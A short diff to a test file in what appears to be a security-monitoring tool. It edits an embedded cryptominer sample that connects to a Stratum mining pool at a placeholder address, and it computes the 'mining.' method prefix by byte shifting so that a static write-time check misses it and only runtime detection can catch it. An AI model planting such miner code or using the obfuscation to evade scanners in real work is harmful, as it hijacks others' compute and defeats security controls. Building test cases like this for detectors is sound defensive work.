@@ -18,12 +18,12 @@ from bastion.respond import Responder
 
 from .monitor import alive, events_of
 
-# The method names are put together at run time: a pool client whose text carries them
+# The method names are computed at run time: a pool client whose text carries them
 # is refused when it is written (mining.stratum_client_code); this one is the case only
 # the runtime path (the gateway naming Stratum on the wire) can catch.
 MINER = r"""
 import hashlib, json, socket
-M = "mining" + "."
+M = bytes(b - 1 for b in b"njojoh/").decode()  # "mining.", computed: not a constant
 def pool():
     try:
         s = socket.create_connection(("203.0.113.33", 3333), 5)
